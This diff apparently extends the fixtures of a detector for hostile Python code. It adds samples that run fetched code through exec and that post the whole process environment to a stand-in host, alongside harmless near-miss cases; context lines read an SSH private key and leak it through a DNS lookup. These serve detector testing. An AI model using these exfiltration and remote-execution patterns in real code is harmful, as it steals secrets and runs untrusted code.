@@ -22,6 +22,11 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "a name from a named place": py(
             f"import sys, requests\nsys.modules['%(a)stins' % {{'a': 'buil'}}].exec({_GET})\n"
         ),
+        "gathered in a list": py(
+            f"import requests\nclass Parts:\n    def __init__(self): self.all = []\n"
+            f"    def take(self): self.all.append({_GET})\n    def show(self): exec(''.join(self.all))\n",
+            line=4,
+        ),
         "by attrgetter": py(f"import operator, builtins, requests\noperator.attrgetter('exec')(builtins)({_GET})\n"),
         "the first of a list": py(f"import requests\nnext(iter([exec]))({_GET})\n"),
         "a method by getattr": py(f"import requests\ngetattr({{'a': eval}}, 'get')('a')({_GET})\n"),
@@ -52,6 +57,18 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("machine.py", 6),
         ),
+        "the environment, one by one": py(
+            "import os, requests\nlines = []\nfor k, v in os.environ.items():\n    lines.append(f'{k}={v}')\n"
+            "requests.post('https://a.invalid', data='&'.join(lines))\n",
+            line=3,
+        ),
+        "the environment by its names": py(
+            "import os, requests\nall_of = {name: os.environ[name] for name in os.environ}\n"
+            "requests.post('https://a.invalid', json=all_of)\n"
+        ),
+        "a copy of the environment": py(
+            "import os, json, requests\nt = json.dumps(os.environ.copy())\nrequests.post('https://a.invalid', data=t)\n"
+        ),
         "as a name to be looked up": py(
             "import socket\nkey = open('/root/.ssh/id_rsa', 'rb').read()\n"
             "socket.gethostbyname(key[:30].hex() + '.a.invalid')\n",
@@ -73,6 +90,9 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         },
         "a template that names something else": {
             "app.py": f"import sys, requests\nsys.modules['%s%s' % ('pri', 'nts')].show({_GET})\n"
+        },
+        "gathered in another list": {
+            "app.py": f"import requests\na, b = [], []\na.append({_GET})\nb.append('x = 1')\nexec(''.join(b))\n"
         },
         "attrgetter of another member": {
             "app.py": f"import operator, builtins, requests\noperator.attrgetter('len')(builtins)({_GET})\n"
@@ -97,6 +117,20 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "        return b''.join(path.read_bytes() for path in paths)\n",
             "out.py": "import requests\nclass Out:\n    def __init__(self, url): self.url = url\n"
             "    def put(self, data): requests.post(self.url, data=data)\n",
+        },
+        "some of the environment, by name": {
+            "app.py": "import os, requests\nlines = []\nfor key, value in os.environ.items():\n"
+            "    if key.startswith('APP_'):\n        lines.append(f'{key}={value}')\n"
+            "requests.post('https://a.invalid', data='&'.join(lines))\n"
+        },
+        "the proxies of the environment": {
+            "app.py": "import os, requests\nfound = {}\nfor name, value in os.environ.items():\n"
+            "    if value and name[-6:] == '_proxy':\n        found[name[:-6]] = value\n"
+            "requests.get('https://a.invalid', proxies=found)\n"
+        },
+        "the environment of a program": {
+            "app.py": "import os, subprocess, requests\nhere = os.environ.copy()\n"
+            "log = subprocess.check_output(['git', 'log'], env=here)\nrequests.post('https://a.invalid', data=log)\n"
         },
         "a host is looked up": {
             "app.py": "import socket\nkey = open('/root/.ssh/id_rsa', 'rb').read()\nsocket.gethostbyname('a.invalid')\n"
